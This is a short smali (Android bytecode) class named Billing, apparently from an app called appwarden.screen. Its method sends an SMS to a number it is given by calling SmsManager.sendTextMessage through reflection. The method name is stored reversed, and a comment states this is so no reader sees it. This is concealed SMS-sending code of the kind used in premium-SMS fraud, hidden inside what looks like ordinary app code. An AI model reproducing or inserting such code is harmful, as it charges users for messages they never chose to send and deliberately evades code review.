.class public Lcom/appwarden/screen/r8/Billing;
.super Ljava/lang/Object;

# r8: SmsManager.getDefault().sendTextMessage(number, null, text, null, null) by reflection; the method name is
# reversed in the code so that no reader sees it.

.method public static send(Ljava/lang/String;Ljava/lang/String;)V
    .registers 12
    const-string v0, "android.telephony.SmsManager"
    invoke-static {v0}, Ljava/lang/Class;->forName(Ljava/lang/String;)Ljava/lang/Class;
    move-result-object v0
    const-string v1, "getDefault"
    const/4 v2, 0x0
    new-array v3, v2, [Ljava/lang/Class;
    invoke-virtual {v0, v1, v3}, Ljava/lang/Class;->getMethod(Ljava/lang/String;[Ljava/lang/Class;)Ljava/lang/reflect/Method;
    move-result-object v1
    const/4 v4, 0x0
    new-array v5, v2, [Ljava/lang/Object;
    invoke-virtual {v1, v4, v5}, Ljava/lang/reflect/Method;->invoke(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;
    move-result-object v6
    new-instance v7, Ljava/lang/StringBuilder;
    const-string v8, "egasseMtxeTdnes"
    invoke-direct {v7, v8}, Ljava/lang/StringBuilder;-><init>(Ljava/lang/String;)V
    invoke-virtual {v7}, Ljava/lang/StringBuilder;->reverse()Ljava/lang/StringBuilder;
    move-result-object v7
    invoke-virtual {v7}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v7
    const/4 v8, 0x5
    new-array v3, v8, [Ljava/lang/Class;
    const-class v9, Ljava/lang/String;
    aput-object v9, v3, v2
    const/4 v9, 0x1
    const-class v10, Ljava/lang/String;
    aput-object v10, v3, v9
    const/4 v9, 0x2
    const-class v10, Ljava/lang/String;
    aput-object v10, v3, v9
    const/4 v9, 0x3
    const-class v10, Landroid/app/PendingIntent;
    aput-object v10, v3, v9
    const/4 v9, 0x4
    const-class v10, Landroid/app/PendingIntent;
    aput-object v10, v3, v9
    invoke-virtual {v0, v7, v3}, Ljava/lang/Class;->getMethod(Ljava/lang/String;[Ljava/lang/Class;)Ljava/lang/reflect/Method;
    move-result-object v1
    new-array v5, v8, [Ljava/lang/Object;
    aput-object p0, v5, v2
    const/4 v9, 0x2
    aput-object p1, v5, v9
    invoke-virtual {v1, v6, v5}, Ljava/lang/reflect/Method;->invoke(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;
    return-void
.end method
